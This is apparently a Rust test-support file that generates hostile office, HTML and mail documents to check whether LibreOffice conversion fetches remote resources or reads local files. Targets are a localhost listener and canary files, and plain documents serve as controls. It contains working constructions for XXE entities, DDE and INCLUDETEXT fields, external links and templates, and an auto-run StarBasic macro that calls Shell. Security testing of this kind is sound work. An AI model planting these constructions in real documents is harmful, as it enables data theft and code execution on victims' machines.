//! Hostile documents, each naming addresses of a listener on this computer and files in a fake home, and the same
//! kinds of document with nothing hostile in them.

use std::ffi::OsString;

use std::fs;
use std::io::{Read, Write};
use std::net::TcpListener;
use std::path::{Path, PathBuf};
use std::process::{Command, Output};
use std::sync::{Arc, Mutex};
use std::time::Duration;

use crate::support::office::packed;
use crate::support::{case, mail as letters, office as made};

/// Words of a file in the fake home, which are nowhere else.
pub(crate) const CANARY: &str = "Quixotic wombat";

/// What a document may name: a listener, and a home with files in it.
pub(crate) struct Bait {
    pub(crate) folder: tempfile::TempDir,
    pub(crate) port: u16,
    pub(crate) seen: Arc<Mutex<Vec<String>>>,
}

impl Bait {
    pub(crate) fn new() -> Self {
        let bait = Self::quiet();
        let home = bait.at("home");
        fs::create_dir_all(home.join(".config/libreoffice/4/user")).expect("folder");
        fs::write(home.join(".config/libreoffice/4/user/registrymodifications.xcu"), CANARY).expect("write");
        fs::write(home.join("canary.txt"), CANARY).expect("write");
        fs::write(home.join("canary.html"), format!("<p>{CANARY}</p>")).expect("write");
        fs::write(home.join("canary.png"), case::png(90, 90)).expect("write");
        fs::write(home.join("canary.odt"), made::odt(&format!("<text:p>{CANARY}</text:p>"))).expect("write");
        bait
    }

    /// A listener and folders without files.
    pub(crate) fn quiet() -> Self {
        let listener = TcpListener::bind("127.0.0.1:0").expect("listener");
        let port = listener.local_addr().expect("address").port();
        let seen = Arc::new(Mutex::new(Vec::new()));
        let bait = Self { folder: tempfile::tempdir().expect("folder"), port, seen: Arc::clone(&seen) };
        std::thread::spawn(move || {
            let picture = case::png(60, 60);
            for mut stream in listener.incoming().map_while(Result::ok) {
                let _ = stream.set_read_timeout(Some(Duration::from_secs(2)));
                let mut asked = [0; 2048];
                let length = stream.read(&mut asked).unwrap_or(0);
                let asked = String::from_utf8_lossy(&asked[..length]);
                seen.lock().expect("list").push(asked.lines().next().unwrap_or_default().to_owned());
                let head = format!(
                    "HTTP/1.1 200 OK\r\nContent-Type: image/png\r\nContent-Length: {}\r\nConnection: close\r\n\r\n",
                    picture.len()
                );
                let _ = stream.write_all(&[head.as_bytes(), &picture].concat());
            }
        });
        for name in ["home", "evidence", "temporary", "cache", "profile"] {
            fs::create_dir_all(bait.at(name)).expect("folder");
        }
        bait
    }

    pub(crate) fn at(&self, name: &str) -> PathBuf {
        self.folder.path().join(name)
    }

    /// The folder for temporary files, with a path as long as the path of a socket may not be.
    pub(crate) fn temporary(&self) -> PathBuf {
        let folder = self.at("temporary").join("n".repeat(100));
        fs::create_dir_all(&folder).expect("folder");
        folder
    }

    /// An address that the listener answers.
    pub(crate) fn url(&self, of: &str) -> String {
        format!("http://127.0.0.1:{}/{of}", self.port)
    }

    /// A file of the fake home.
    pub(crate) fn file(&self, name: &str) -> String {
        format!("file://{}", self.at("home").join(name).display())
    }

    /// What the listener was asked for.
    pub(crate) fn seen(&self) -> Vec<String> {
        self.seen.lock().expect("list").clone()
    }
}

/// A hostile document: its name, whether LibreOffice left to itself fetches something that it names (found out by
/// running LibreOffice 7.4), and its bytes. The others are here for other versions, and for our own readers.
pub(crate) type Row = (&'static str, bool, fn(&Bait) -> Vec<u8>);

pub(crate) const ROWS: &[Row] = &[
    ("picture.odt", true, |b| {
        odt(&[picture(&b.url("picture.odt")), picture(&b.file("canary.png"))].concat(), "")
    }),
    ("unc.odt", false, |b| {
        let port = b.port;
        odt(
            &[
                picture(&format!("file:////127.0.0.1:{port}/share/unc.png")),
                picture("smb://127.0.0.1/share/unc.png"),
            ]
            .concat(),
            "",
        )
    }),
    ("object.odt", true, |b| {
        let object = |target: &str| {
            format!(
                r#"<text:p><draw:frame svg:width="4cm" svg:height="4cm"><draw:object xlink:href="{target}" xlink:type="simple" xlink:actuate="onLoad"/></draw:frame></text:p>"#
            )
        };
        odt(&[object(&b.url("object.odt")), object(&b.file("canary.odt"))].concat(), "")
    }),
    ("section.odt", false, |b| {
        let section = |name: &str, target: &str| {
            format!(
                r#"<text:section text:name="{name}" text:protected="false"><text:section-source xlink:href="{target}" xlink:type="simple"/><text:p>old</text:p></text:section>"#
            )
        };
        odt(
            &[
                section("a", &b.url("section.odt")),
                section("b", &b.file("canary.txt")),
                section("c", &b.file("canary.odt")),
            ]
            .concat(),
            "",
        )
    }),
    ("dde.odt", true, |b| {
        let source = format!(
            r#"office:dde-application="soffice" office:dde-topic="{}" office:dde-item="a""#,
            b.at("home/canary.odt").display()
        );
        odt(
            &format!(
                r#"<text:dde-connection-decls><text:dde-connection-decl office:name="d" {source} office:automatic-update="true"/></text:dde-connection-decls><text:p><text:dde-connection text:connection-name="d">old</text:dde-connection></text:p><text:section text:name="s"><office:dde-source {source} office:automatic-update="true"/><text:p>old</text:p></text:section>"#
            ),
            "",
        )
    }),
    ("font.odt", false, |b| {
        let face = |name: &str, target: &str| {
            format!(
                r#"<style:font-face style:name="{name}" svg:font-family="{name}"><svg:font-face-src><svg:font-face-uri xlink:href="{target}" xlink:type="simple"><svg:font-face-format svg:string="truetype"/></svg:font-face-uri></svg:font-face-src></style:font-face>"#
            )
        };
        let faces = [face("Far", &b.url("font.odt")), face("Near", &b.file("canary.png"))].concat();
        odt(
            "<text:p>Set in a font from elsewhere</text:p>",
            &format!("<office:font-face-decls>{faces}</office:font-face-decls>"),
        )
    }),
    ("fill.odt", true, |b| {
        let fill = format!(
            r#"<office:automatic-styles><style:style style:name="P1" style:family="paragraph"><style:paragraph-properties><style:background-image xlink:href="{}" xlink:type="simple" xlink:actuate="onLoad"/></style:paragraph-properties></style:style></office:automatic-styles>"#,
            b.url("fill.odt")
        );
        odt(r#"<text:p text:style-name="P1">Filled</text:p>"#, &fill)
    }),
    ("macro.odt", false, macro_odt),
    ("template.odt", false, |b| {
        let meta = format!(
            r#"<?xml version="1.0"?><office:document-meta xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:meta="urn:oasis:names:tc:opendocument:xmlns:meta:1.0" xmlns:xlink="http://www.w3.org/1999/xlink" office:version="1.2"><office:meta><meta:template xlink:type="simple" xlink:actuate="onRequest" xlink:href="{}" meta:date="2020-01-01T00:00:00"/><meta:auto-reload xlink:href="{}" meta:delay="PT0S"/></office:meta></office:document-meta>"#,
            b.file("canary.odt"),
            b.url("template.odt")
        );
        open(
            "text",
            "<office:text><text:p>Dear Sir</text:p></office:text>",
            "",
            &[("meta.xml", "text/xml", &meta)],
        )
    }),
    ("picture.docx", true, |b| {
        let pictures = [docx_picture("rId8"), docx_picture("rId9")].concat();
        docx(
            &pictures,
            &[("rId8", "image", &b.url("picture.docx")), ("rId9", "image", &b.file("canary.png"))],
            &[],
        )
    }),
    ("includetext.docx", false, |b| {
        let field = |code: &str| {
            format!(
                r#"<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> {code} </w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>old</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>"#
            )
        };
        let fields = [
            field(&format!(r#"INCLUDEPICTURE "{}" \d"#, b.url("includetext.docx"))),
            field(&format!(r#"INCLUDETEXT "{}""#, b.at("home/canary.txt").display())),
            field(&format!(r#"INCLUDETEXT "{}""#, b.file("canary.odt"))),
            field(&format!(r#"DDEAUTO soffice "{}" a"#, b.at("home/canary.odt").display())),
            field(r#"INCLUDEPICTURE "\\\\127.0.0.1\\share\\unc.png" \d"#),
        ];
        docx(&fields.concat(), &[], &[])
    }),
    ("altchunk.docx", false, |b| {
        docx(
            r#"<w:altChunk r:id="rId8"/><w:altChunk r:id="rId9"/>"#,
            &[("rId8", "aFChunk", &b.url("altchunk.docx")), ("rId9", "aFChunk", &b.file("canary.html"))],
            &[],
        )
    }),
    ("object.docx", false, |b| {
        let object = |id: &str| {
            format!(
                r#"<w:p><w:r><w:object><v:shape id="s" style="width:90pt;height:90pt"><v:imagedata r:id="{id}"/></v:shape><o:OLEObject Type="Link" ProgID="Word.Document.12" ShapeID="s" DrawAspect="Content" r:id="{id}" UpdateMode="Always"/></w:object></w:r></w:p>"#
            )
        };
        docx(
            &[object("rId8"), object("rId9")].concat(),
            &[("rId8", "oleObject", &b.url("object.docx")), ("rId9", "oleObject", &b.file("canary.odt"))],
            &[],
        )
    }),
    ("template.docx", false, |b| {
        let settings = format!(
            r#"<?xml version="1.0"?><w:settings {WORD}><w:attachedTemplate r:id="rId1"/></w:settings>"#
        );
        let related = format!(
            r#"<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="{OFFICE}/attachedTemplate" Target="{}" TargetMode="External"/></Relationships>"#,
            b.url("template.docx")
        );
        docx(
            "<w:p><w:r><w:t>Of a template</w:t></w:r></w:p>",
            &[],
            &[("word/settings.xml", &settings), ("word/_rels/settings.xml.rels", &related)],
        )
    }),
    ("xxe.docx", false, |b| {
        let body = r#"<w:p><w:r><w:t>&near;&far;</w:t></w:r></w:p>"#;
        entities(docx(body, &[], &[]), "word/document.xml", b, "xxe.docx")
    }),
    ("picture.rtf", true, |b| {
        rtf(&[
            include("INCLUDEPICTURE", &b.url("picture.rtf"), " \\\\d"),
            include("INCLUDEPICTURE", &b.file("canary.png"), " \\\\d"),
        ]
        .concat())
    }),
    ("includetext.rtf", false, |b| {
        let path = b.at("home/canary.txt").display().to_string();
        rtf(&[
            include("INCLUDETEXT", &path, ""),
            include("INCLUDETEXT", &b.file("canary.odt"), ""),
            include("DDEAUTO soffice", &path, " a"),
            format!(r"{{\*\template {}}}", b.url("includetext.rtf")),
        ]
        .concat())
    }),
    ("object.rtf", false, |b| {
        rtf(&format!(
            r"{{\object\objautlink\objupdate\objw2000\objh2000{{\*\objclass Word.Document.8}}{{\*\objdata {}}}{{\result old}}}}",
            moniker(&b.url("object.rtf"))
        ))
    }),
    ("picture.doc", true, |b| through_libreoffice(b, "picture.docx", "doc")),
    ("macro.doc", false, |b| through_libreoffice(b, "macro.odt", "doc")),
    ("page.html", true, |b| {
        let (far, near) = (b.url("page.html"), b.file("canary.html"));
        format!(r##"<html><head><meta http-equiv="refresh" content="0; url={far}"><link rel="stylesheet" href="{far}"><style>@import url({far}); @font-face {{ font-family: F; src: url({far}); }} p {{ background: url({far}) }}</style></head><body><p>Dear Sir</p><iframe src="{far}"></iframe><iframe src="{near}"></iframe><img src="{far}"><img src="{}"><object data="{near}"></object><embed src="{far}"><svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><use xlink:href="{far}#a"/><image xlink:href="{}"/></svg><script src="{far}"></script></body></html>"##, b.file("canary.png"), b.file("canary.png")).into_bytes()
    }),
    ("mail.eml", false, |b| {
        let (far, near) = (b.url("mail.eml"), b.file("canary.png"));
        format!("From: a@example.org\r\nTo: b@example.org\r\nSubject: Your payment\r\nDate: Mon, 6 Jan 2020 10:00:00 +0000\r\nMIME-Version: 1.0\r\nContent-Type: text/html; charset=utf-8\r\n\r\n<link rel=stylesheet href=\"{far}\"><style>@import url({far});</style><p>Dear Sir</p><img src=\"cid:canary.png\"><img src=\"{far}\"><img src=\"{near}\"><iframe src=\"{near}\"></iframe>\r\n").into_bytes()
    }),
    ("mail-with.eml", false, |b| {
        let inside = docx(&docx_picture("rId8"), &[("rId8", "image", &b.url("mail-with.eml"))], &[]);
        letters::mail(
            "Enclosed",
            "Please see the letter.",
            &[letters::attached(
                "letter.docx",
                "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
                &inside,
            )],
        )
    }),
    ("xxe.ods", false, |b| {
        let table = r#"<table:table table:name="A"><table:table-row><table:table-cell office:value-type="string"><text:p>&near;&far;</text:p></table:table-cell></table:table-row></table:table>"#;
        entities(made::ods("", table), "content.xml", b, "xxe.ods")
    }),
    ("linked.ods", false, |b| {
        let table = |name: &str, target: &str| {
            format!(
                r#"<table:table table:name="{name}"><table:table-source xlink:href="{target}" xlink:type="simple" table:filter-name="calc8"/><table:table-row><table:table-cell office:value-type="string"><text:p>old</text:p></table:table-cell></table:table-row></table:table>"#
            )
        };
        let tables = [table("A", &b.url("linked.ods")), table("B", &b.file("canary.odt"))].concat();
        open("spreadsheet", &format!("<office:spreadsheet>{tables}</office:spreadsheet>"), "", &[])
    }),
    ("xxe.xlsx", false, |b| entities(xlsx("&near;&far;"), "xl/worksheets/sheet1.xml", b, "xxe.xlsx")),
    ("linked.xlsx", false, |b| {
        let book = xlsx("old");
        let link = format!(
            r#"<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="{OFFICE}/externalLinkPath" Target="{}" TargetMode="External"/></Relationships>"#,
            b.url("linked.xlsx")
        );
        with(&book, &[("xl/externalLinks/_rels/externalLink1.xml.rels", link.as_bytes()), ("xl/externalLinks/externalLink1.xml", br#"<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><externalBook r:id="rId1"><sheetNames><sheetName val="A"/></sheetNames></externalBook></externalLink>"#)])
    }),
];

/// The same kinds of document with nothing hostile in them, and whether LibreOffice lays them out.
pub(crate) const PLAIN: &[Row] = &[
    ("plain.odt", true, |_| odt("<text:p>Good day to you</text:p>", "")),
    ("plain.docx", true, |_| docx("<w:p><w:r><w:t>Good day to you</w:t></w:r></w:p>", &[], &[])),
    ("plain.rtf", true, |_| rtf("Good day to you")),
    ("plain.doc", true, |b| through_libreoffice(b, "plain.rtf", "doc")),
    ("plain.html", false, |_| b"<html><body><p>Good day to you</p></body></html>".to_vec()),
    ("plain.eml", false, |_| letters::mail("Hello", "Good day to you", &[])),
    ("plain.ods", false, |_| {
        made::ods(
            "",
            r#"<table:table table:name="A"><table:table-row><table:table-cell office:value-type="string"><text:p>Good day to you</text:p></table:table-cell></table:table-row></table:table>"#,
        )
    }),
    ("plain.xlsx", false, |_| xlsx("Good day to you")),
];

/// What LibreOffice itself opens.
pub(crate) fn for_libreoffice(name: &str) -> bool {
    !name.ends_with(".eml")
}

pub(crate) const OPEN: &str = r#"xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" xmlns:style="urn:oasis:names:tc:opendocument:xmlns:style:1.0" xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0" xmlns:dom="http://www.w3.org/2001/xml-events" xmlns:fo="urn:oasis:names:tc:opendocument:xmlns:xsl-fo-compatible:1.0" xmlns:svg="urn:oasis:names:tc:opendocument:xmlns:svg-compatible:1.0" xmlns:xlink="http://www.w3.org/1999/xlink" office:version="1.2""#;

/// An OpenDocument with what stands before its body, and with more parts: their paths, types and texts.
pub(crate) fn open(kind: &str, body: &str, before: &str, more: &[(&str, &str, &str)]) -> Vec<u8> {
    let media = format!("application/vnd.oasis.opendocument.{kind}");
    let content = format!(
        r#"<?xml version="1.0" encoding="UTF-8"?><office:document-content {OPEN}>{before}<office:body>{body}</office:body></office:document-content>"#
    );
    let listed: String = [("/", media.as_str(), ""), ("content.xml", "text/xml", "")]
        .iter()
        .chain(more)
        .map(|(path, media, _)| {
            format!(r#"<manifest:file-entry manifest:full-path="{path}" manifest:media-type="{media}"/>"#)
        })
        .collect();
    let manifest = format!(
        r#"<?xml version="1.0" encoding="UTF-8"?><manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0" manifest:version="1.2">{listed}</manifest:manifest>"#
    );
    let mut parts =
        vec![("mimetype", media.as_str()), ("content.xml", &content), ("META-INF/manifest.xml", &manifest)];
    parts.extend(more.iter().map(|(path, _, text)| (*path, *text)));
    packed(&parts)
}

pub(crate) fn odt(body: &str, before: &str) -> Vec<u8> {
    open("text", &format!("<office:text><text:p>Dear Sir</text:p>{body}</office:text>"), before, &[])
}

pub(crate) fn picture(target: &str) -> String {
    format!(
        r#"<text:p><draw:frame text:anchor-type="as-char" svg:width="4cm" svg:height="4cm"><draw:image xlink:href="{target}" xlink:type="simple" xlink:show="embed" xlink:actuate="onLoad"/></draw:frame></text:p>"#
    )
}

/// An OpenDocument text whose macro, run when it is opened, reads a file and starts a program.
pub(crate) fn macro_odt(bait: &Bait) -> Vec<u8> {
    let home = bait.at("home");
    let basic = format!(
        r#"<?xml version="1.0" encoding="UTF-8"?><script:module xmlns:script="http://openoffice.org/2000/script" script:name="M" script:language="StarBasic">Sub Main
Shell("/usr/bin/touch", 0, "{}/touched")
Open "{}/canary.txt" For Input As #1
Line Input #1, s
ThisComponent.Text.String = s
End Sub
Sub AutoOpen
Main
End Sub</script:module>"#,
        home.display(),
        home.display()
    );
    let library = r#"<?xml version="1.0" encoding="UTF-8"?><library:library xmlns:library="http://openoffice.org/2000/library" library:name="Standard" library:readonly="false" library:passwordprotected="false"><library:element library:name="M"/></library:library>"#;
    let libraries = r#"<?xml version="1.0" encoding="UTF-8"?><library:libraries xmlns:library="http://openoffice.org/2000/library" xmlns:xlink="http://www.w3.org/1999/xlink"><library:library library:name="Standard" library:link="false"/></library:libraries>"#;
    let event = r#"<office:scripts><office:script script:language="ooo:Basic"/><office:event-listeners><script:event-listener script:language="ooo:script" script:event-name="dom:load" xlink:href="vnd.sun.star.script:Standard.M.Main?language=Basic&amp;location=document" xlink:type="simple"/></office:event-listeners></office:scripts>"#;
    open(
        "text",
        "<office:text><text:p>Dear Sir</text:p></office:text>",
        event,
        &[
            ("Basic/Standard/M.xml", "text/xml", &basic),
            ("Basic/Standard/script-lb.xml", "text/xml", library),
            ("Basic/script-lc.xml", "text/xml", libraries),
        ],
    )
}

pub(crate) const OFFICE: &str = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
pub(crate) const WORD: &str = r#"xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing" xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture" xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office""#;

/// A Word document with what it relates to outside itself, and with more parts.
pub(crate) fn docx(body: &str, related: &[(&str, &str, &str)], more: &[(&str, &str)]) -> Vec<u8> {
    let settings = more.iter().any(|(path, _)| *path == "word/settings.xml");
    let settings = if settings {
        format!(r#"<Relationship Id="rId1" Type="{OFFICE}/settings" Target="settings.xml"/>"#)
    } else {
        String::new()
    };
    let list: String = related
        .iter()
        .map(|(id, kind, target)| {
            format!(
                r#"<Relationship Id="{id}" Type="{OFFICE}/{kind}" Target="{target}" TargetMode="External"/>"#
            )
        })
        .collect();
    let rels = |list: &str| {
        format!(
            r#"<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{list}</Relationships>"#
        )
    };
    let document = format!(
        r#"<?xml version="1.0" encoding="UTF-8" standalone="yes"?><w:document {WORD}><w:body><w:p><w:r><w:t>Dear Sir</w:t></w:r></w:p>{body}<w:sectPr><w:pgSz w:w="11906" w:h="16838"/></w:sectPr></w:body></w:document>"#
    );
    let types = r#"<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/><Override PartName="/word/settings.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.settings+xml"/></Types>"#;
    let root = rels(&format!(
        r#"<Relationship Id="rId1" Type="{OFFICE}/officeDocument" Target="word/document.xml"/>"#
    ));
    let rels = rels(&(settings + &list));
    let mut parts = vec![
        ("[Content_Types].xml", types),
        ("_rels/.rels", &root),
        ("word/document.xml", &document),
        ("word/_rels/document.xml.rels", &rels),
    ];
    parts.extend(more);
    packed(&parts)
}

pub(crate) fn docx_picture(id: &str) -> String {
    format!(
        r#"<w:p><w:r><w:drawing><wp:inline><wp:extent cx="900000" cy="900000"/><wp:docPr id="1" name="p"/><a:graphic><a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:pic><pic:nvPicPr><pic:cNvPr id="1" name="p"/><pic:cNvPicPr/></pic:nvPicPr><pic:blipFill><a:blip r:link="{id}"/><a:stretch><a:fillRect/></a:stretch></pic:blipFill><pic:spPr><a:xfrm><a:off x="0" y="0"/><a:ext cx="900000" cy="900000"/></a:xfrm><a:prstGeom prst="rect"/></pic:spPr></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>"#
    )
}

pub(crate) fn rtf(body: &str) -> Vec<u8> {
    format!(r"{{\rtf1\ansi Dear Sir\par {body}\par}}").into_bytes()
}

pub(crate) fn include(what: &str, target: &str, more: &str) -> String {
    format!(r#"{{\field{{\*\fldinst {{ {what} "{target}"{more} }}}}{{\fldrslt old}}}}\par "#)
}

/// A link to an address as Word keeps it in an RTF: an OLE 1 head and a URL moniker, as digits.
pub(crate) fn moniker(url: &str) -> String {
    let text = |s: &str| [&(s.len() as u32 + 1).to_le_bytes()[..], s.as_bytes(), &[0]].concat();
    let head =
        [&0x0501u32.to_le_bytes()[..], &1u32.to_le_bytes(), &text("Word.Document.8"), &text(url), &text("")];
    head.concat().iter().map(|byte| format!("{byte:02x}")).collect()
}

/// An Excel workbook with this text in a cell.
pub(crate) fn xlsx(text: &str) -> Vec<u8> {
    let rows = made::sheet_row(1, &[(0, &format!("\"{text}"))]);
    made::xlsx(&[made::Sheet { name: "A", hidden: false, columns: "", rows: &rows }])
}

/// A package with other or more parts.
pub(crate) fn with(package: &[u8], parts: &[(&str, &[u8])]) -> Vec<u8> {
    let mut zip = zip::ZipArchive::new(std::io::Cursor::new(package)).expect("zip");
    let mut out = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
    let stored = zip::write::SimpleFileOptions::default().compression_method(zip::CompressionMethod::Stored);
    for i in 0..zip.len() {
        let file = zip.by_index_raw(i).expect("part");
        if parts.iter().all(|(name, _)| file.name().expect("name") != *name) {
            out.raw_copy_file(file).expect("copied");
        }
    }
    for (name, bytes) in parts {
        out.start_file(*name, stored).expect("part");
        out.write_all(bytes).expect("part");
    }
    out.finish().expect("zip").into_inner()
}

/// A package in one part of which two entities are declared, one a file and one an address.
pub(crate) fn entities(package: Vec<u8>, part: &str, bait: &Bait, name: &str) -> Vec<u8> {
    let mut zip = zip::ZipArchive::new(std::io::Cursor::new(&package)).expect("zip");
    let mut text = String::new();
    zip.by_name(part).expect("part").read_to_string(&mut text).expect("text");
    let body = text.find("?>").map_or(text.as_str(), |at| &text[at + 2..]);
    let text = format!(
        r#"<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE d [<!ENTITY near SYSTEM "{}"><!ENTITY far SYSTEM "{}">]>{body}"#,
        bait.file("canary.txt"),
        bait.url(name)
    );
    with(&package, &[(part, text.as_bytes())])
}

/// A document of another row or of the plain ones, which LibreOffice writes in another format.
pub(crate) fn through_libreoffice(bait: &Bait, name: &str, ending: &str) -> Vec<u8> {
    let rows = ROWS.iter().chain(PLAIN);
    let (_, _, make) = rows.into_iter().find(|(row, _, _)| *row == name).expect("row");
    let folder = bait.at("profile");
    fs::write(folder.join(name), make(bait)).expect("write");
    assert!(libreoffice(bait, &[folder.join(name)], ending, &folder).status.success(), "{name} to {ending}");
    fs::read(folder.join(name).with_extension(ending)).expect("converted")
}

/// LibreOffice as it is, with a new profile.
pub(crate) fn libreoffice(bait: &Bait, files: &[PathBuf], to: &str, folder: &Path) -> Output {
    let words = as_it_is(bait, files, to, folder);
    Command::new(&words[0]).args(&words[1..]).env("HOME", bait.at("home")).output().expect("timeout")
}

/// How it is started.
pub(crate) fn as_it_is(bait: &Bait, files: &[PathBuf], to: &str, folder: &Path) -> Vec<OsString> {
    let profile = format!("-env:UserInstallation=file://{}", bait.at("profile/libreoffice").display());
    // Some documents never end it.
    let words = [
        "timeout",
        "--kill-after=1",
        "120",
        "soffice",
        &profile,
        "--headless",
        "--norestore",
        "--convert-to",
        to,
        "--outdir",
    ];
    let words = words.iter().map(OsString::from).chain([folder.into()]);
    words.chain(files.iter().map(OsString::from)).collect()
}
